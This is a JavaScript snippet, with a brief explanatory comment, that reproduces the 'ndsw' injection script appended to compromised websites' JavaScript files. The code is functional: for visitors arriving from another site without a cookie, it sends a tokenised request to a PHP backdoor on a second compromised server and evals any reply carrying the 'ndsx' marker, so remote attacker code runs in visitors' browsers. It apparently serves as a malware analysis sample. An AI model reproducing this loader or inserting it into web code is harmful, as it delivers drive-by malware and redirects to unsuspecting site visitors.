// The first-generation landing script appended to a compromised site's JavaScript files: a
// guard variable so it runs once, then, only for visitors who arrive from another site and
// carry no cookie yet, a GET to a PHP backdoor on another compromised server (the TDS) with a
// random token; a reply that carries the marker is run as code.
;if (ndsw === undefined) {
  var ndsw = true,
    HttpClient = function () {
      this.get = function (url, done) {
        var x = new XMLHttpRequest();
        x.onreadystatechange = function () {
          if (x.readyState == 4 && x.status == 200) done(x.responseText);
        };
        x.open("GET", url, true);
        x.send(null);
      };
    },
    rand = function () { return Math.random().toString(36).substr(2); },
    token = function () { return rand() + rand(); };
  (function () {
    var nav = navigator, doc = document, scr = screen, win = window,
      ua = nav.userAgent, plat = nav.platform, cookie = doc.cookie,
      host = win.location.hostname, ref = doc.referrer;
    if (ref && !has(ref, host) && !cookie) {
      var client = new HttpClient(),
        tds = "https://cms.fairview-dental.invalid/wp-content/plugins/wp-cache-core/cache.php?id=" + token();
      client.get(tds, function (reply) {
        if (has(reply, "ndsx")) win.eval(reply);
      });
    }
    function has(s, part) { return s.indexOf(part) !== -1; }
  })();
};
